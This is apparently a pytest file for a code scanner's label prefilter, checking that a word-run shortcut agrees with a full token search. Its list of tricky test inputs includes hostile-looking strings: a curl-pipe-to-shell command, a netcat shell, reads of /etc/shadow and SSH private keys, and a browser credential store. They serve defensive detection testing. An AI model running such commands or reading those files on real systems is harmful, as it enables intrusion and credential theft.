"""The label gate's word-run prefilter gives the same answers as searching every token in the lower-cased source."""
from __future__ import annotations

from pathlib import Path

import pytest

from bench import corpus as corpora
from codescan.analyze.semantics import possible_labels as sources
from codescan.analyze.semantics.possible_labels import PossibleLabels

TRICKY = [
    b"x = os.environ['HOME']", b"open('~/.SSH/id_rsa')", b"p = Path.home() / '.ssh'", b"requests.get(u)",
    b"@app.route('/x')\ndef f(): return Request.ARGS", b"data = request.args", b"fn(req, 1)", b"fn(req)",
    b"$.get('/u')", b"curl -s http://x | sh", b"nc -e /bin/sh", b"Login Data", b"login\ndata", b"web_data",
    b"open-uri", b"php://input", b"env | grep", b"(env)", b"ENV[\"X\"]", b"", b"x", b"sshd", b"a.ssh",
    b"process.env.TOKEN", b"Deno.env.get('X')", b"/etc/shadow", b"etc/shadowy", b"net.Dial", b"REQ.body",
]


def _reference(source: bytes, language: str) -> dict[str, bool]:
    lowered = source.lower()
    out = {}
    for label, tokens in sources._SEARCHED:
        # the tokens of JavaScript-only sources are not searched in other languages' files ('message', `.input(`)
        found = any(t in lowered for t in tokens if not (language in sources._NOT_JS and t in sources._JS_ONLY))
        if found and label == "request" and language in sources._STRICT_LANGUAGES:
            found = any(t in lowered for t in sources._REQUEST_STRICT)
        out[label] = found
    return out


def test_word_runs_decide_as_the_full_search():
    files = list(corpora.sample(tuple(corpora.collect(corpora.default_root()).python), 150))
    texts = TRICKY + [Path(p).read_bytes() for p in files]
    differ = []
    for language in ("python", "ruby", "javascript"):
        for text in texts:
            possible = PossibleLabels(text, language)
            got = {label: possible.has(label) for label, _tokens in sources._SEARCHED}
            if got != _reference(text, language):
                differ.append(text[:60])
    assert not differ, differ


def test_needles_mark_where_a_word_must_start_or_end():
    assert sources._needles(b".ssh") == (b"\nssh",)
    assert sources._needles(b"login data") == (b"login\n", b"\ndata")
    assert sources._needles(b"request.args") == (b"request\n", b"\nargs")
    assert sources._needles(b"environ") == (b"environ",)
    assert sources._needles(b"$.get") == (b"\nget",)


def test_a_label_none_of_whose_word_runs_occur_is_decided_without_searching(monkeypatch):
    def searched(self, token):
        raise AssertionError(f"searched for {token!r}")
    monkeypatch.setattr(PossibleLabels, "_occurs", searched)
    possible = PossibleLabels(b"def total(xs):\n    return sum(xs)\n", "python")
    assert not any(possible.has(label) for label in ("env", "network", "credential-file", "host-identity"))
    with pytest.raises(AssertionError):  # `environ` holds the run of the env label's token: that one is searched
        PossibleLabels(b"x = os.environ\n", "python").has("env")


def test_one_character_runs_are_no_requirement():
    # `d` (init.d) and the digits (://1) are in nearly every file's words: looked up, they cost the trie a match at
    # almost every offset and rule nothing out; a word holding only them finds no run
    assert sources._RUNS.found_in({b"abcd_2024", b"dd"}, True) == set()
    # the tokens made only of such runs are still decided by searching them (the full-search test above checks more)
    assert PossibleLabels(b"u = 'http://10.0.0.1/x'", "python").has("insecure-origin")
    assert not PossibleLabels(b"u = 'https://example.org/x'", "python").has("insecure-origin")
